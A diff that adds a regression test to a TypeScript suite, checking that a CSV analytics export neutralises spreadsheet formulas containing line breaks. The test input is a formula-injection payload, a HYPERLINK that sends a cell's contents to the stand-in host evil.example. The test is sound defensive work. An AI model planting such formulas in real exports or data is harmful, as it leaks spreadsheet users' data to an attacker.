@@ -110,6 +110,24 @@ forEachDatabase(({ db, build }) => {
     assert.deepEqual(unknown, [], 'these entries name no route');
   });
 
+  test('export: a formula with a line break in it is neutralised too (issue 27)', async (t) => {
+    const server = await build(t);
+    const owner = await account(server, db(), 'premium');
+    const project = await createProject(server, owner, 'Northwind');
+    const title = '=HYPERLINK("https://evil.example/?"&B3,\n"Open")';
+    const made = await createCopy(server, owner, { projectId: project._id, title });
+    expectData(await call(server, owner, 'PATCH', `/copy/${made.id}`, { performance: { views: 10 } }), 200);
+    let job = expectData(await call(server, owner, 'POST', '/analytics/export', { range: 'week', format: 'csv', tz: 'UTC' }), 202);
+    for (let i = 0; i < 50 && job.state === 'generating'; i += 1) {
+      await new Promise((resolve) => setTimeout(resolve, 50));
+      job = expectData(await call(server, owner, 'GET', `/analytics/export/${job.id}`), 200);
+    }
+    assert.equal(job.state, 'completed');
+    const file = await server.inject({ url: job.url });
+    const parsed = Papa.parse<Record<string, string>>(file.body, { header: true, skipEmptyLines: true });
+    assert.equal(parsed.data[0]!.copy, `'${title}`);
+  });
+
   test('export: 202 generating, followed to completed; the signed url downloads without a header; formulas neutralised', async (t) => {
     const server = await build(t);
     const owner = await account(server, db(), 'premium');
